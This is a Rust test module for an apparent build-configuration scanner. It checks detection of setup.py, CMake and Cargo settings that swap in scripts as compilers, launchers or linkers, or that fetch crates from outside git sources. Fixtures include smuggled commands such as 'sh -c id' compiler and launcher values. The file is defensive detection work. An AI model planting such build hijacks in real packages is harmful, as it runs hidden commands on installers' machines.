    fn a_compiler_set_in_the_build_s_environment_is_read() {
        let once = [
            (
                "pkg/setup.py",
                "os.environ[\"CC\"] = \"sh -c 'id; exec gcc \\\"$@\\\"' gcc\"\n",
                "the build's `CC` is set to `\"sh -c 'id; exec gcc",
            ),
            (
                "pkg/setup.py",
                "os.environ.setdefault('CXX', 'tests/bin/cc')\n",
                "`CXX` is set to `'tests/bin/cc'`",
            ),
            (
                "pkg/setup.py",
                "os.putenv(\"LDSHARED\", cmd)\n",
                "`LDSHARED` is set to `cmd`",
            ),
            (
                "pkg/setup.py",
                "environ['CC']=\"ccache sh\"\n",
                "`CC` is set to `\"ccache sh\"`",
            ),
            (
                "pkg/build.rs",
                "std::env::set_var(\"CC\", \"docs/cc.txt\");\n",
                "`CC` is set to `\"docs/cc.txt\"`",
            ),
            // A build tool runs the package's own scripts; a compiler's
            // option can name a program it runs.
            (
                "pkg/setup.py",
                "os.environ[\"CC\"] = \"make\"\n",
                "`CC` is set to `\"make\"`",
            ),
            (
                "pkg/setup.py",
                "os.environ[\"CXX\"] = \"nvcc -ccbin=tests/bin\"\n",
                "`CXX` is set to `\"nvcc -ccbin=tests/bin\"`",
            ),
            (
                "pkg/setup.py",
                "os.environ[\"LDSHARED\"] = \"gcc -shared -fuse-ld=tests/bin/ld\"\n",
                "`LDSHARED` is set to",
            ),
        ];
        // A compiler by name, other variables, a comparison; not a test
        // tree's `setup.py` or another Python file.
        let none = [
            ("pkg/setup.py", "os.environ[\"CC\"] = \"gcc\"\nos.environ.setdefault(\"CC\", \"clang-18\")\nos.environ[\"CXX\"] = \"ccache g++\"\nos.environ['CC'] = '/usr/bin/x86_64-linux-gnu-gcc -m64'\n"),
            ("pkg/setup.py", "os.environ[\"PATH\"] = x\nos.environ[\"CFLAGS\"] = \"-O2\"\nif os.environ[\"CC\"] == \"icc\":\n    pass\n"),
            ("pkg/tests/setup.py", "os.environ[\"CC\"] = cmd\n"),
            ("pkg/tools/build.py", "os.environ[\"CC\"] = cmd\n"),
        ];
        assert_build_runs(&once, &none);
    }

    /// What CMake runs as a compiler, linker, archiver or build tool, set
    /// to anything but a tool's name, the compiler CMake has or the
    /// user's environment's, counts wherever CMake reads it.
    #[test]
    fn a_cmake_program_set_to_a_script_is_read() {
        let once = [
            (
                "pkg/CMakeLists.txt",
                "SET(CMAKE_C_COMPILER \"${CMAKE_CURRENT_SOURCE_DIR}/tools/cc\")\nproject(x C)\n",
                "CMake's `CMAKE_C_COMPILER` is set to `${CMAKE_CURRENT_SOURCE_DIR}/tools/cc`",
            ),
            (
                "pkg/cmake/tc.cmake",
                "set(CMAKE_CXX_COMPILER ${triple}-g++)\n",
                "`CMAKE_CXX_COMPILER` is set to `${triple}-g++`",
            ),
            (
                "pkg/CMakeLists.txt",
                "set(CMAKE_LINKER tools/ld)\n",
                "`CMAKE_LINKER` is set to `tools/ld`",
            ),
            (
                "pkg/pyproject.toml",
                "[tool.scikit-build]\ncmake.define = {CMAKE_C_COMPILER = \"sh;-c;id && exec gcc $@;gcc\"}\n",
                "`CMAKE_C_COMPILER` is set to `sh;-c;id`",
            ),
            (
                "pkg/pyproject.toml",
                "[tool.scikit-build]\ncmake.args = [\"-DCMAKE_ASM_NASM_COMPILER=docs/nasm.txt\"]\n",
                "`CMAKE_ASM_NASM_COMPILER` is set to `docs/nasm.txt`",
            ),
            (
                "pkg/CMakePresets.json",
                "{\"configurePresets\": [{\"cacheVariables\": {\"CMAKE_MAKE_PROGRAM\": \"make\"}}]}\n",
                "`CMAKE_MAKE_PROGRAM` is set to `make`",
            ),
            (
                "pkg/CMakeLists.txt",
                "set(CMAKE_CUDA_HOST_COMPILER \"${CMAKE_SOURCE_DIR}/cc\")\n",
                "`CMAKE_CUDA_HOST_COMPILER`",
            ),
        ];
        // Tools by name (a CMake list of a compiler and its options
        // too), the compiler CMake found, the environment's; reading or
        // testing a variable; a launcher (another rule's); a test tree.
        let none = [
            (
                "pkg/CMakeLists.txt",
                "set(CMAKE_C_COMPILER clang)\nset(CMAKE_CXX_COMPILER /usr/bin/g++)\nset(CMAKE_AR llvm-ar)\n\
                 SET(CMAKE_ASM_COMPILER ${CMAKE_C_COMPILER})\nset(CMAKE_C_COMPILER $ENV{CC})\n",
            ),
            (
                "pkg/pyproject.toml",
                "[tool.scikit-build]\ncmake.define = {CMAKE_C_COMPILER = \"gcc;-m64\", CMAKE_CUDA_COMPILER = \"nvcc\"}\n",
            ),
            (
                "pkg/CMakeLists.txt",
                "if(CMAKE_C_COMPILER MATCHES clang)\nendif()\nexecute_process(COMMAND ${CMAKE_C_COMPILER} --version)\n\
                 message(STATUS \"CMAKE_C_COMPILER_ID is ${CMAKE_C_COMPILER_ID}\")\nset(CMAKE_C_COMPILER_LAUNCHER ccache)\n",
            ),
            ("pkg/tests/CMakeLists.txt", "set(CMAKE_C_COMPILER tools/cc)\n"),
        ];
        assert_build_runs(&once, &none);
    }

    #[test]
    fn a_cmake_compiler_launcher_is_read() {
        let once = [
            ("pkg/CMakeLists.txt", "set(CMAKE_C_COMPILER_LAUNCHER sh -c \"id\")\n", "`CMAKE_C_COMPILER_LAUNCHER` runs `sh`"),
            ("pkg/CMakeLists.txt", "set_target_properties(m PROPERTIES\n  CXX_COMPILER_LAUNCHER tests/bin/wrap)\n", "`CXX_COMPILER_LAUNCHER` runs `tests/bin/wrap`"),
            ("pkg/cmake/x.cmake", "set_property(GLOBAL PROPERTY RULE_LAUNCH_COMPILE \"${WRAP}\")\n", "`RULE_LAUNCH_COMPILE` runs `${WRAP}`"),
            ("pkg/pyproject.toml", "[tool.scikit-build]\ncmake.args = [\"-DCMAKE_CUDA_LINKER_LAUNCHER:STRING=sh;-c;id\"]\n", "`CMAKE_CUDA_LINKER_LAUNCHER` runs `sh;-c;id`"),
            ("pkg/pyproject.toml", "[tool.scikit-build]\ncmake.define = {CMAKE_C_COMPILER_LAUNCHER = \"w\"}\n", "`CMAKE_C_COMPILER_LAUNCHER` runs `w`"),
            ("pkg/CMakePresets.json", "{\"configurePresets\": [{\"cacheVariables\": {\"CMAKE_CXX_COMPILER_LAUNCHER\": \"tests/bin/wrap\"}}]}\n", "`CMAKE_CXX_COMPILER_LAUNCHER` runs `tests/bin/wrap`"),
        ];
        // A compiler cache, a test of the setting, prose; not a test
        // tree's script or a file no build reads.
        let none = [
            ("pkg/CMakeLists.txt", "find_program(CCACHE ccache)\nset(CMAKE_C_COMPILER_LAUNCHER ccache)\nset(CMAKE_CXX_COMPILER_LAUNCHER /usr/bin/sccache)\n"),
            ("pkg/CMakeLists.txt", "if(DEFINED CMAKE_C_COMPILER_LAUNCHER)\nendif()\nif(NOT CMAKE_C_COMPILER_LAUNCHER STREQUAL \"\")\nendif()\n# set CMAKE_C_COMPILER_LAUNCHER to speed builds up\n"),
            ("pkg/tests/CMakeLists.txt", "set(CMAKE_C_COMPILER_LAUNCHER sh)\n"),
            ("pkg/docs/build.txt", "set(CMAKE_C_COMPILER_LAUNCHER sh)\n"),
        ];
        assert_build_runs(&once, &none);
    }

    #[test]
    fn a_cargo_configuration_that_runs_a_program_is_read() {
        let config = |path: &str, text: &str| compiler_flags(path, text.as_bytes());
        let runs = |text: &str| config("pkg/.cargo/config.toml", text).runs;
        // Cargo's own programs, a target's and the host's linker.
        for (text, shown) in [
            ("[build]\nrustc-wrapper = \"tests/bin/wrap\"\n", "Cargo's `build.rustc-wrapper = \"tests/bin/wrap\"` runs that program for each crate it compiles"),
            ("[build]\nrustc = \"docs/rustc.txt\"\n", "Cargo's `build.rustc = \"docs/rustc.txt\"`"),
            ("[build]\nrustc-workspace-wrapper = \"w\"\n", "Cargo's `build.rustc-workspace-wrapper = \"w\"`"),
            ("[target.x86_64-unknown-linux-gnu]\nlinker = \"tests/bin/cc\"\n", "Cargo's `target.x86_64-unknown-linux-gnu.linker = \"tests/bin/cc\"` runs that program to link"),
            ("[host]\nlinker = \"cc2\"\n", "Cargo's `host.linker = \"cc2\"`"),
            ("[build]\nrustflags = \"-Clinker=tests/bin/cc -O\"\n", "the rustflags of Cargo's `build` give rustc `-C linker=tests/bin/cc`"),
            ("[target.'cfg(unix)']\nrustflags = [\"-C\", \"link-arg=-wrapper\", \"-C\", \"link-arg=sh,-c,id\"]\n", "the compiler's `-wrapper sh,-c,id`"),
            ("[env]\nCC = \"tests/bin/cc\"\n", "Cargo's `[env]` sets `CC = \"tests/bin/cc\"`"),
            ("[env]\nTARGET_CXX = { value = \"x\", relative = true }\n", "sets `TARGET_CXX = \"x\"`"),
            ("[env]\nRUSTC_WRAPPER = \"w\"\n", "sets `RUSTC_WRAPPER = \"w\"`"),
            ("[env]\nCFLAGS = \"-O2 -wrapper sh,-c,id\"\n", "the compiler's `-wrapper sh,-c,id`"),
        ] {
            let found = runs(text);
            assert_eq!(found.len(), 1, "{text}: {found:?}");
            assert!(found[0].contains(shown), "{text}: {found:?}");
        }
        // A link argument's `-B` and `@FILE` are files to resolve.
        let f = config(
            "pkg/.cargo/config",
            "[build]\nrustflags = [\"-C\", \"link-arg=-Btests/bin/\", \"-Clink-arg=@docs/args.txt\"]\n",
        );
        let named: Vec<&str> = f.files.iter().map(|(_, flag, _)| flag.as_str()).collect();
        assert_eq!(named, ["-Btests/bin/", "@docs/args.txt"]);
        // Sources and patches fetched from outside a registry.
        let f = config(
            "pkg/.cargo/config.toml",
            "[source.crates-io]\nreplace-with = \"mirror\"\n[source.mirror]\ngit = \"https://example.invalid/m.git\"\n[patch.crates-io]\nlibc = { git = \"https://example.invalid/libc\" }\nserde = { path = \"vendor/serde\" }\n",
        );
        assert_eq!(
            f.fetched,
            [
                "Cargo's `[source.mirror]` fetches crates from git https://example.invalid/m.git",
                "Cargo's `[patch.crates-io.libc]` fetches crates from git https://example.invalid/libc",
            ]
        );
        // What real packages' configurations hold counts for nothing, nor
        // a configuration in a test tree, a `config.toml` elsewhere, or
        // text that is not TOML.
        let real = "[target.x86_64-apple-darwin]\nrustflags = [\"-C\", \"link-arg=-undefined\", \"-C\", \"link-arg=dynamic_lookup\"]\n\
                    [target.'cfg(all())']\nrustflags = [\"--cfg\", \"uuid_unstable\", \"-C\", \"force-frame-pointers=yes\"]\n\
                    [net]\ngit-fetch-with-cli = true\n[source.crates-io]\nreplace-with = \"vendored-sources\"\n\
                    [source.vendored-sources]\ndirectory = \"include/cargo\"\n[env]\nFOO = \"1\"\n";
        assert_eq!(
            config("pkg/.cargo/config.toml", real),
            CompilerFlags::default()
        );
        let wrapper = "[build]\nrustc-wrapper = \"w\"\n";
        assert_eq!(
            config("pkg/tests/.cargo/config.toml", wrapper),
            CompilerFlags::default()
        );
        assert_eq!(
            config("pkg/docs/config.toml", wrapper),
            CompilerFlags::default()
        );
        assert_eq!(
            config("pkg/.cargo/config.toml", "[build\nrustc-wrapper"),
            CompilerFlags::default()
        );
    }

    #[test]
    fn computed_includes_and_the_values_of_their_macros_are_read() {
        let computed = |path: &str, text: &str| computed_includes(path, text.as_bytes());
        assert_eq!(
            computed(
                "pkg/src/ext.c",
                "#include NOTES\n  # include_next B\n#include <a.h>\nx = 1; #include C\n#include NOTES\n"
            ),
            ["B", "NOTES"]
        );
        assert!(computed("pkg/tests/t.c", "#include NOTES\n").is_empty());
        assert!(computed("pkg/setup.py", "#include NOTES\n").is_empty());
        let values = |path: &str, text: &str| include_macros(path, text.as_bytes());
        let pairs = |p: &[(&str, &str)]| -> Vec<(String, String)> {
            p.iter()
                .map(|(a, b)| (a.to_string(), b.to_string()))
                .collect()
        };
        // A source's definitions, a function-like macro's too, a test
        // tree's too; not a definition that is not at a line's start.
        assert_eq!(
            values(
                "pkg/tests/h.h",
                "#define NOTES \"Notes.txt\"\n#  define F(x) <../docs/a.json>\nint y; #define G \"g.txt\"\n#define N 3\n"
            ),
            pairs(&[("F", "docs/a.json"), ("NOTES", "notes.txt")])
        );
        // A build's: setuptools' `define_macros` (a tuple, or a TOML
        // array), `-D` flags, CMake's and Meson's `NAME=VALUE`.
        assert_eq!(
            values(
                "pkg/setup.py",
                "Extension('m', define_macros=[('NOTES', '\"notes.txt\"'), (\"B\", \"<b.txt>\"), ('V', '1')],\n\
                 extra_compile_args=['-DC=\"c.txt\"', '-D D=<d.txt>'])\n"
            ),
            pairs(&[("B", "b.txt"), ("C", "c.txt"), ("D", "d.txt"), ("NOTES", "notes.txt")])
        );
        assert_eq!(
            values(
                "pkg/pyproject.toml",
                "[[tool.setuptools.ext-modules]]\ndefine-macros = [[\"NOTES\", \"\\\"notes.txt\\\"\"]]\n"
            ),
            pairs(&[("NOTES", "notes.txt")])
        );
        assert_eq!(
            values(
                "pkg/CMakeLists.txt",
                "add_compile_definitions(NOTES=\"notes.txt\")\n"
            ),
            pairs(&[("NOTES", "notes.txt")])
        );
        // Only values naming documents: not a header, a test tree's
        // file or a message.
        assert!(values(
            "pkg/src/h.h",
            "#define H \"impl.h\"\n#define T <tests/notes.txt>\n#define MSG \"cannot open\"\n"
        )
        .is_empty());
        // At most one past the bound.
        let many: String = (0..MAX_MACROS + 5)
            .map(|i| format!("#define M{i} <d{i}/notes.txt>\n"))
            .collect();
        assert_eq!(values("pkg/src/h.h", &many).len(), MAX_MACROS + 1);
        let many: String = (0..MAX_MACROS + 5)
            .map(|i| format!("#include M{i}\n"))
            .collect();
        assert_eq!(computed("pkg/src/m.c", &many).len(), MAX_MACROS + 1);
        // Not other files.
        assert!(values("pkg/m.py", "NOTES = \"notes.txt\"\n").is_empty());
    }
}
